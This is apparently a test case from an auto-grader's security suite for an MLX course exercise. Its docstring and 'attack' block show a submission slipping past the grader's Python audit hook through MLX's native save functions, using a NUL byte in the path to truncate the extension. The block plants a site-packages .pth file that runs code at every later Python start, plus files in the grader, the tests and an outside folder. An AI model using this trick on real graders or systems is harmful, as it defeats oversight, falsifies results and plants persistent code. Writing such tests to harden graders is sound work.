"""Class: writing outside the submission through MLX's own writers (native code, so no Python
audit hook sees the file being opened), with a NUL character in the path that cuts off the
extension MLX appends. The data section of a safetensors file is the writer's to choose, and
Python's site module executes `import` lines of any *.pth file in site-packages.

Gain: a file of the student's naming and content anywhere the grading user may write: here a
.pth in site-packages (code run at the start of every later Python, the next `grade` included),
a file in the course checkout, and one in an unrelated folder.
"""

# ruff: noqa
EXERCISE = "saving_loading"
BASE = "solution"
LOSES = []
WITNESSES = ["inplace_updates"]

# --- attack ---
_PTH = b"\nimport os; os.environ.setdefault('GRADE_PWNED', '1')\n"
for _path, _writer in (
    ("@SITE@/zz_cheat.pth\0", "safetensors"),
    ("@ROOT@/grader/zz_cheat.py\0", "npy"),
    ("@ROOT@/tests/zz_cheat", "npz"),
    ("@OUTSIDE@/planted", "gguf"),
):
    try:
        _data = mx.array(list(_PTH), dtype=mx.uint8)
        if _writer == "safetensors":
            mx.save_safetensors(_path, {"a": _data})
        elif _writer == "npy":
            mx.save(_path, _data)
        elif _writer == "npz":
            mx.savez(_path, a=_data)
        else:
            mx.save_gguf(_path, {"a": _data.astype(mx.int8)})
    except Exception:
        pass
